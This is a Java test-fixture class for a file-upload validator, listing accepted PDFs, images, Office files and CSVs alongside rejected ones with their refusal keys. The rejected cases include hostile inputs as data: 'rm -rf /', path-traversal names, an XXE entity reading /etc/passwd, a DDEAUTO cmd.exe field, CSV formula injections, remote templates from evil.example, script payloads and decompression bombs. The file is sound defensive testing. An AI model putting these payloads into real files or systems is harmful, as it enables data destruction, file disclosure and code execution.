package de.teilhabemonitor.file;

import static de.teilhabemonitor.file.Pdfs.bytes;
import static de.teilhabemonitor.file.Pdfs.joined;
import static java.nio.charset.StandardCharsets.UTF_8;

import de.teilhabemonitor.sheet.Uploads;
import java.awt.image.BufferedImage;
import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.apache.pdfbox.pdmodel.PDPage;

/** Files that are taken, and files that are refused with their reason. */
final class Corpus {

    private Corpus() {}

    /** @param key of the words that refuse it; empty: it is taken */
    record Case(String name, String what, byte[] bytes, String key) {
        @Override
        public String toString() {
            return what + " (" + name + ")";
        }
    }

    private static Case good(String name, String what, byte[] bytes) {
        return new Case(name, what, bytes, "");
    }

    static Case bad(String name, String what, byte[] bytes, String key) {
        return new Case(name, what, bytes, key);
    }

    static List<Case> good() {
        return List.of(
                good("programm.pdf", "one page", Pdfs.plain()),
                good("PROGRAMM.PDF", "an ending in capitals", Pdfs.with(d -> d.addPage(new PDPage()))),
                good("Einladung & Ablauf (2. Fassung).pdf", "signs that people use", Pdfs.with(d -> {
                    for (int i = 0; i < 50; i++) {
                        d.addPage(new PDPage());
                    }
                })),
                good("Überblick-Größen.pdf", "letters of German", Pdfs.open(d -> d.addPage(new PDPage()))),
                good("برنامج.pdf", "letters of Arabic", Pdfs.open(d -> {
                    d.addPage(new PDPage());
                    d.addPage(new PDPage());
                })),
                good("a".repeat(146) + ".pdf", "a name as long as it may be", Pdfs.open(d -> d.getDocumentInformation()
                        .setTitle("x"))),
                good("v1.2.pdf", "two dots", Pdfs.with(d -> d.getDocumentInformation()
                        .setAuthor("Amt"))),
                good(
                        "link.pdf",
                        "a link to a page",
                        Pdfs.with(Pdfs.annotation(
                                Pdfs.link(Pdfs.of("S", "/URI", "URI", "https://www.example.org/a?b=c"))))),
                good(
                        "mail.pdf",
                        "a link to a mailbox",
                        Pdfs.with(Pdfs.annotation(Pdfs.link(Pdfs.of("S", "/URI", "URI", "mailto:amt@example.org"))))),
                good(
                        "sprung.pdf",
                        "a jump within",
                        Pdfs.with(Pdfs.annotation(Pdfs.link(Pdfs.of("S", "/GoTo", "D", "kapitel"))))),
                good("zeile.pdf", "a line break behind the end", joined(Pdfs.plain(), bytes("\r\n"))),
                good("hand.pdf", "written by hand", Pdfs.withStream("", bytes("BT ET"))),
                good(
                        "gross.pdf",
                        "a page that unpacks to 10 MB",
                        Pdfs.withStream("/Filter/FlateDecode", Pdfs.packed(10))),
                good("bild.png", "a picture", Pictures.png()),
                good(
                        "durchsichtig.png",
                        "a picture that one sees through",
                        Pictures.of("png", BufferedImage.TYPE_INT_ARGB)),
                good("grau.png", "grey", Pictures.of("png", BufferedImage.TYPE_BYTE_GRAY)),
                good("grau16.png", "grey, fine", Pictures.of("png", BufferedImage.TYPE_USHORT_GRAY)),
                good("palette.png", "a few colours", Pictures.of("png", BufferedImage.TYPE_BYTE_INDEXED)),
                good("schwarz.png", "black and white", Pictures.of("png", BufferedImage.TYPE_BYTE_BINARY)),
                good(
                        "anhang.png",
                        "something behind a picture, which is gone then",
                        joined(Pictures.png(), bytes("<script>alert(1)</script>"))),
                good("foto.jpg", "a photo", Pictures.photo()),
                good("foto.jpeg", "the other ending", Pictures.jpg()),
                good("grau.JPG", "a grey photo", Pictures.of("jpg", BufferedImage.TYPE_BYTE_GRAY)),
                good("brief.docx", "a letter", Papers.docx()),
                good("verweis.docx", "a letter with a link", Papers.related("hyperlink", "https://www.example.org/")),
                good("bild.docx", "a letter with a picture", Papers.docxWith("word/media/image1.png", Pictures.png())),
                good(
                        "feld.docx",
                        "a letter with the number of the page",
                        Papers.docx("<w:r><w:instrText> PAGE </w:instrText></w:r>")),
                good("tabelle.xlsx", "a table", Papers.xlsx()),
                good(
                        "drucker.xlsx",
                        "settings of a printer",
                        Papers.xlsxWith("xl/printerSettings/printerSettings1.bin", new byte[] {1, 2, 3})),
                good("werte.csv", "a table as text", "jahr,wert\n2023,\"1,5\"\n".getBytes(UTF_8)),
                good(
                        "excel.csv",
                        "as a German Excel writes it",
                        "Jahr;Wert\r\n2023;-1,5\r\nGrün;+3\r\n".getBytes(Charset.forName("windows-1252"))),
                good("bom.csv", "with a mark of its letters", "\ufeffjahr;wert\n2024;-7\n".getBytes(UTF_8)),
                good("tab.csv", "with tabs", "Straße\tZahl\nÖ\t- \n".getBytes(UTF_8)));
    }

    static List<Case> bad() {
        List<Case> all = new ArrayList<>();
        names(all);
        others(all);
        BadPdfs.all().forEach(all::add);
        pictures(all);
        papers(all);
        texts(all);
        return all;
    }

    private static void names(List<Case> all) {
        byte[] pdf = Pdfs.plain();
        all.add(bad("programm\u202efdp.pdf", "a name that turns round", pdf, "file.name-hidden"));
        all.add(bad("pro\u200bgramm.pdf", "a sign without width", pdf, "file.name-hidden"));
        all.add(bad("programm\u0000.pdf", "a NUL", pdf, "not-text"));
        all.add(bad("a\nb.pdf", "a line break", pdf, "not-text"));
        all.add(bad("../../etc/passwd.pdf", "a path", pdf, "file.name-signs"));
        all.add(bad("C:\\plan.pdf", "a path of Windows", pdf, "file.name-signs"));
        all.add(bad("a\"; filename=x.pdf", "a quote", pdf, "file.name-signs"));
        all.add(bad("con.pdf", "a device", pdf, "file.name-signs"));
        all.add(bad("programm.pdf ", "a space at the end", pdf, "file.name-signs"));
        all.add(bad("programm", "no ending", pdf, "file.name-ending"));
        all.add(bad(".pdf", "nothing but an ending", pdf, "file.name-ending"));
        all.add(bad("rechnung.pdf.exe", "a program", pdf, "file.name-ending"));
        all.add(bad("rechnung.exe.pdf", "a program that is called a paper", pdf, "file.name-double"));
        all.add(bad("seite.html.pdf", "a page that is called a paper", pdf, "file.name-double"));
        all.add(bad("logo.svg", "a drawing", pdf, "file.name-ending"));
        all.add(bad("seite.html", "a page", pdf, "file.name-ending"));
        all.add(bad("makro.docm", "a letter with macros", pdf, "file.name-ending"));
        all.add(bad("a".repeat(147) + ".pdf", "a name that is too long", pdf, "too-long"));
    }

    private static void others(List<Case> all) {
        all.add(bad("leer.pdf", "nothing", new byte[0], "file.empty"));
        all.add(bad("programm.pdf", "a program of Windows", bytes("MZ\u0090\0\u0003"), "file.is-program"));
        all.add(bad("programm.csv", "a program of Linux", bytes("\u007fELF\u0002"), "file.is-program"));
        all.add(bad("programm.csv", "a script", bytes("#!/bin/sh\nrm -rf /\n"), "file.is-program"));
        all.add(bad(
                "bild.png", "a drawing that is called a picture", bytes("<svg onload=\"alert(1)\"/>"), "file.is-svg"));
        all.add(bad(
                "bild.csv",
                "a drawing behind a comment",
                bytes("<?xml version=\"1.0\"?><!-- a --><svg/>"),
                "file.is-svg"));
        all.add(bad(
                "seite.pdf", "a page that is called a paper", bytes("<!DOCTYPE html><html></html>"), "file.is-page"));
        all.add(bad(
                "seite.csv", "a page that is called a table", bytes("a,b\n<script>alert(1)</script>"), "file.is-page"));
        all.add(bad(
                "seite.csv",
                "a page in two bytes a letter",
                "\ufeff<html>".getBytes(Charset.forName("UTF-16LE")),
                "file.is-page"));
        all.add(bad("archiv.pdf", "an archive", bytes("7z\u00bc\u00af'\u001c"), "file.is-archive"));
        all.add(bad("bild.png", "another kind of picture", bytes("GIF89a\1\0\1\0"), "file.is-other-picture"));
        all.add(bad(
                "brief.docx",
                "an old letter",
                bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"),
                "file.is-old-office"));
        all.add(bad("bild.png", "a paper that is called a picture", Pdfs.plain(), "file.no-png"));
        all.add(bad("bild.jpg", "another picture than it is called", Pictures.png(), "file.no-jpg"));
        all.add(bad("papier.pdf", "a picture that is called a paper", Pictures.jpg(), "file.no-pdf"));
        all.add(bad("papier.csv", "a paper that is called a table", Pdfs.plain(), "file.no-csv"));
    }

    private static void pictures(List<Case> all) {
        byte[] png = Pictures.png();
        all.add(bad(
                "a.png",
                "a picture of 3,600 million points in a few bytes",
                Pictures.bomb(60_000, 60_000),
                "file.picture-too-large"));
        all.add(bad(
                "a.png", "a picture of one line without end", Pictures.bomb(24_000_000, 1), "file.picture-too-large"));
        all.add(bad("a.png", "no width", Pictures.bomb(0, 10), "file.broken-picture"));
        all.add(bad("a.png", "half a picture", Arrays.copyOf(png, png.length / 2), "file.broken-picture"));
        all.add(bad(
                "a.jpg", "the beginning of a photo", bytes("\u00ff\u00d8\u00ff\u00e0hello"), "file.broken-picture"));
    }

    private static void papers(List<Case> all) {
        byte[] vba = bytes("macro");
        all.add(bad("a.docx", "a letter without its text", Papers.docxWithout("word/document.xml"), "file.no-docx"));
        all.add(bad("a.docx", "a table that is called a letter", Papers.xlsx(), "file.no-docx"));
        all.add(bad("a.xlsx", "a letter that is called a table", Papers.docx(), "file.no-xlsx"));
        all.add(bad("a.docx", "a zip of other things", Uploads.zip(Uploads.files("a.txt", "hello")), "file.no-docx"));
        all.add(bad("a.docx", "macros", Papers.docxWith("word/vbaProject.bin", vba), "file.office-running"));
        all.add(bad(
                "a.docx",
                "macros under another name",
                Papers.docxWith(
                        "[Content_Types].xml",
                        "<Types><Override PartName=\"/x\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"),
                "file.office-running"));
        all.add(bad(
                "a.docx",
                "an object within",
                Papers.docxWith("word/embeddings/oleObject1.bin", vba),
                "file.office-running"));
        all.add(bad(
                "a.xlsx",
                "another table that it reads",
                Papers.xlsxWith("xl/externalLinks/externalLink1.xml", bytes("<a/>")),
                "file.office-running"));
        all.add(bad(
                "a.xlsx",
                "a database that it asks",
                Papers.xlsxWith("xl/connections.xml", bytes("<a/>")),
                "file.office-running"));
        all.add(bad(
                "a.docx",
                "a zip within",
                Papers.docxWith("word/media/image1.png", Papers.docx()),
                "file.office-running"));
        all.add(bad(
                "a.docx",
                "a template from elsewhere",
                Papers.related("attachedTemplate", "https://evil.example/t.dotm"),
                "file.office-outside"));
        all.add(bad(
                "a.docx",
                "a picture from elsewhere",
                Papers.related("image", "https://evil.example/pixel.png"),
                "file.office-outside"));
        all.add(bad(
                "a.docx",
                "a link to a file of the network",
                Papers.related("hyperlink", "file://server/share/a.exe"),
                "file.office-outside"));
        all.add(bad(
                "a.docx",
                "a field that starts a program",
                Papers.docx("<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" </w:instrText></w:r>"),
                "file.office-outside"));
        all.add(bad("a.docx", "a page within", Papers.docx("<w:altChunk/>"), "file.office-outside"));
        all.add(bad(
                "a.docx",
                "a document type of its own",
                Papers.docxWith(
                        "word/styles.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
                "file.office-entities"));
        all.add(bad("a.docx", "a bomb", Papers.docxWith("word/media/image1.bmp", new byte[120 << 20]), "file.bomb"));
        all.add(bad("a.docx", "a path", Papers.docxWith("../../etc/cron.d/a", "x"), "file.no-docx"));
        all.add(bad(
                "a.docx", "something behind a letter", joined(Papers.docx(), bytes("<html>")), "file.several-formats"));
        all.add(bad("a.docx", "half a letter", Arrays.copyOf(Papers.docx(), 100), "file.no-docx"));
    }

    private static void texts(List<Case> all) {
        byte[] random = new byte[5000];
        new Random(7).nextBytes(random);
        random[0] = 'a';
        all.add(bad("a.csv", "a formula", bytes("a;b\n1;=cmd|' /C calc'!A0\n"), "file.csv-formula"));
        all.add(bad(
                "a.csv",
                "a formula in quotes",
                bytes("a,b\n1,\"=HYPERLINK(\"\"https://evil.example\"\")\"\n"),
                "file.csv-formula"));
        all.add(bad("a.csv", "a formula that begins with a sign", bytes("a;b\n1;+SUM(A1)\n"), "file.csv-formula"));
        all.add(bad("a.csv", "a formula of old", bytes("@SUM(1+9)*cmd|' /C calc'!A0\n"), "file.csv-formula"));
        all.add(bad("a.csv", "signs that are no text", bytes("a,b\n1,\u0007\n"), "file.no-csv"));
        all.add(bad("a.csv", "bytes", random, "file.no-csv"));
        all.add(bad("a.csv", "a zip that is called a table", Papers.docx(), "file.no-csv"));
    }
}
